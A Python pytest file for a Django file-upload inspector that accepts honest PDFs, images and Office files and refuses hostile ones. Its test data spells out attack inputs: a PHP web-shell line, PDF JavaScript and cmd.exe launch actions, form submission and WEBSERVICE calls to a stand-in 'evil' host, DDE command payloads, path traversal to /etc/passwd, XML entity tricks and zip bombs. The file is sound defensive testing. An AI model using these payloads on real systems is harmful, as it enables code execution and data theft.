"""What is sent is looked at before it is kept: honest files pass, hostile ones are refused with their reason."""

import uuid
from pathlib import Path

import pytest
from django.utils import translation

from kenes.files import errors, services
from kenes.files.inspection import content
from kenes.files.limited import run as limited
from kenes.files.models import StoredFile
from kenes.files.testing import a_pdf
from kenes.files.tests import hostile
from kenes.foundation.errors import KenesError

pytestmark = pytest.mark.django_db

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
JS = "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
LAUNCH = "/OpenAction << /S /Launch /F (cmd.exe) >>"


def field(instruction: str) -> str:
    """A field in pieces, as Word itself may cut it."""
    half = len(instruction) // 2
    runs = "".join(
        f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (instruction[:half], instruction[half:])
    )
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"<w:p>{begin}{runs}{end}</w:p>"


HONEST = {
    "pdf": (a_pdf(), "application/pdf"),
    "pdf_packed": (hostile.packed_pdf("/Lang (ru)"), "application/pdf"),
    "pdf_with_a_link": (a_pdf(catalog="/OpenAction [3 0 R /Fit]"), "application/pdf"),
    "jpeg": (hostile.picture("JPEG"), "image/jpeg"),
    "jpeg_with_a_tail": (hostile.picture("JPEG") + b"SEFT" + b"\0" * 300, "image/jpeg"),
    "png": (hostile.picture("PNG"), "image/png"),
    "webp": (hostile.picture("WEBP"), "image/webp"),
    "heic": (hostile.heic(), "image/heic"),
    "docx": (hostile.docx(), WORD),
    "docx_with_page_numbers": (hostile.with_body(field(" PAGE ")), WORD),
    "docx_with_a_link": (hostile.with_relation("hyperlink", "https://egov.kz/"), WORD),
    "xlsx": (hostile.xlsx("=SUM(A2:A9)*1.5"), EXCEL),
    "text": ("Справка о доходах\n".encode(), "text/plain"),
}


@pytest.mark.parametrize("name", HONEST)
def test_honest_files_pass(name: str) -> None:
    data, mime = HONEST[name]
    assert content.inspect(data) == mime


HOSTILE: dict[str, tuple[bytes, type[KenesError]]] = {
    "empty": (b"", errors.FileEmpty),
    "program": (b"MZ" + b"\0" * 200, errors.FileTypeNotAllowed),
    "page": (b"<html><script>alert(1)</script></html>", errors.FileTypeNotAllowed),
    "drawing_with_script": (b"<svg xmlns='http://www.w3.org/2000/svg'/>", errors.FileTypeNotAllowed),
    "zip": (hostile.archive(), errors.FileTypeNotAllowed),
    "gif": (b"GIF89a" + b"\0" * 50, errors.FileTypeNotAllowed),
    # Two kinds in one.
    "pdf_and_zip": (a_pdf() + hostile.archive(), errors.FileMixed),
    "jpeg_and_page": (hostile.picture("JPEG") + b"<script>alert(1)</script>", errors.FileMixed),
    "jpeg_comment_page": (hostile.picture("JPEG", comment=b"<html><body>x"), errors.FileMixed),
    "png_and_program_text": (hostile.picture("PNG") + b"<?php system($_GET[0]); ?>", errors.FileMixed),
    "jpeg_and_jar": (hostile.picture("JPEG") + hostile.archive("META-INF/MANIFEST.MF"), errors.FileMixed),
    "png_and_rar": (hostile.picture("PNG") + b"Rar!\x1a\x07\x01\x00" + b"\0" * 40, errors.FileMixed),
    "text_then_pdf": (b"hello\n" + a_pdf(), errors.FileMixed),
    "jpeg_with_pdf_header": (hostile.picture("JPEG", comment=b"%PDF-1.4\n1 0 obj"), errors.FileMixed),
    "pdf_and_page": (a_pdf(extra=b"<script>alert(1)</script>"), errors.FileMixed),
    "docx_behind_pdf": (hostile.docx() + a_pdf(), errors.FileMixed),
    # Archives.
    "zip_bomb": (hostile.zip_bomb(), errors.FileTooComplex),
    "overlapping_parts": (hostile.overlapping(), errors.FileTooComplex),
    "too_many_parts": (hostile.too_many_parts(3100), errors.FileTooComplex),
    "part_outside": (hostile.repacked(hostile.docx(), {"../../etc/passwd": b"x"}), errors.FileMixed),
    "part_on_a_drive": (hostile.repacked(hostile.docx(), {"C:/x.xml": b"<x/>"}), errors.FileMixed),
    "parts_encrypted": (hostile.with_password_flag(), errors.FileProtected),
    "docx_cut_off": (hostile.docx()[:-300], errors.FileTypeNotAllowed),
    # Pictures.
    "picture_bomb": (hostile.huge_png(30_000, 30_000), errors.PictureTooLarge),
    "picture_too_long": (hostile.huge_png(60_000, 3), errors.PictureTooLarge),
    "picture_cut_off": (hostile.picture("PNG", (200, 200))[:150], errors.FileDamaged),
    "jpeg_without_picture": (b"\xff\xd8\xff" + b"\0" * 100, errors.FileDamaged),
    "moving_png": (hostile.moving("PNG"), errors.PictureMoves),
    "moving_webp": (hostile.moving("WEBP"), errors.PictureMoves),
    "not_heic": (b"\0\0\0\x18ftypheic" + b"\0" * 200, errors.FileDamaged),
    # PDFs.
    "pdf_with_password": (hostile.encrypted_pdf("1234"), errors.FileProtected),
    "pdf_that_may_not_be_printed": (hostile.encrypted_pdf(""), errors.FileProtected),
    "pdf_with_javascript": (a_pdf(catalog=JS), errors.FileActive),
    "pdf_with_hidden_javascript": (a_pdf(catalog=JS.replace("/JavaScript", "/J#61vaScript").replace("/JS", "/J#53")), errors.FileActive),
    "pdf_with_packed_javascript": (hostile.packed_pdf(JS), errors.FileActive),
    "pdf_that_launches": (a_pdf(catalog=LAUNCH), errors.FileActive),
    "pdf_that_sends": (a_pdf(catalog="/AA << /WC << /S /SubmitForm /F (http://evil) >> >>"), errors.FileActive),
    "pdf_with_a_file": (hostile.pdf_with_file(), errors.FileActive),
    "pdf_with_xfa": (a_pdf(catalog="/AcroForm << /XFA [] /Fields [] >>"), errors.FileActive),
    "pdf_of_too_many_pages": (a_pdf(pages=501), errors.FileTooManyPages),
    "pdf_without_pages": (a_pdf(pages=0), errors.FileDamaged),
    "pdf_header_only": (b"%PDF-1.7\nnothing", errors.FileDamaged),
    "pdf_of_boxes_in_boxes": (a_pdf(catalog="/X " + "[" * 200 + "]" * 200), errors.FileTooComplex),
    # Office files.
    "old_word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, errors.FileTypeNotAllowed),
    "word_with_password": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"),
        errors.FileProtected,
    ),
    "macros": (hostile.repacked(hostile.docx(), {"word/vbaProject.bin": b"x"}), errors.FileHasMacros),
    "object_of_another_program": (hostile.repacked(hostile.docx(), {"word/embeddings/o.bin": b"x"}), errors.FileHasMacros),
    "file_in_file": (hostile.repacked(hostile.docx(), {"word/embeddings/b.docx": hostile.docx()}), errors.FileHasMacros),
    "active_x": (hostile.repacked(hostile.docx(), {"word/activeX/activeX1.xml": b"<x/>"}), errors.FileHasMacros),
    "outside_template": (hostile.with_relation("attachedTemplate", "http://evil/t.dotm"), errors.FileHasOutsideLinks),
    "outside_picture": (hostile.with_relation("image", "file:///etc/passwd"), errors.FileHasOutsideLinks),
    "outside_part_by_path": (hostile.with_relation("image", "../../../x.png", "Internal"), errors.FileHasOutsideLinks),
    "object_relation": (hostile.with_relation("oleObject", "embedded.x", "Internal"), errors.FileHasMacros),
    "dde": (hostile.with_body(field(r'DDEAUTO c:\\windows\\cmd.exe "/k calc"')), errors.FileHasOutsideLinks),
    "dde_simple": (hostile.with_body('<w:p><w:fldSimple w:instr=" DDE x y "/></w:p>'), errors.FileHasOutsideLinks),
    "included_text": (hostile.with_body(field('INCLUDETEXT "http://evil/x"')), errors.FileHasOutsideLinks),
    "xlsx_dde": (hostile.xlsx("=cmd|'/c calc'!A1"), errors.FileHasOutsideLinks),
    "xlsx_fetches": (hostile.xlsx('=WEBSERVICE("http://evil/")'), errors.FileHasOutsideLinks),
    "billion_laughs": (
        hostile.repacked(hostile.docx(), {"word/footnotes.xml": b'<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>'}),
        errors.FileTooComplex,
    ),
    "billion_laughs_utf16": (
        hostile.repacked(hostile.docx(), {"word/footnotes.xml": '<!DOCTYPE a [<!ENTITY b "b">]><a/>'.encode("utf-16")}),
        errors.FileTooComplex,
    ),
    "broken_xml": (hostile.repacked(hostile.docx(), {"word/footnotes.xml": b"<a><b></a>"}), errors.FileDamaged),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_are_refused_and_nothing_is_kept(name: str, media: Path) -> None:
    data, refusal = HOSTILE[name]
    with pytest.raises(KenesError) as caught:
        services.store(
            data=data, name="a.pdf", mime="", origin="uploaded", owner_kind="case", owner_id=uuid.uuid4()
        )
    assert type(caught.value) is refusal
    assert not StoredFile.objects.exists()
    assert not [path for path in media.rglob("*") if path.is_file()]


@pytest.mark.parametrize("language", ["ru", "kk"])
def test_every_refusal_is_told_in_the_language_of_the_reader(language: str) -> None:
    for code, extra in ((kind.code, {"limit": 1, "limit_megapixels": 1}) for kind in content.REFUSALS):
        english = content.refusal(code, extra)
        with translation.override("en"):
            plain = english.text()
        with translation.override(language):
            assert english.text() and english.text() != plain


def test_a_program_that_needs_too_much_is_ended() -> None:
    # Far more boxes in boxes than a reader of PDF follows: whatever it does, we go on.
    deep = a_pdf(catalog="/X " + "[" * 200_000 + "]" * 200_000)
    with pytest.raises(KenesError):
        content.inspect(deep)


def test_what_decodes_knows_no_secret(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET_KEY", "known")
    assert "SECRET_KEY" not in limited._ENVIRONMENT
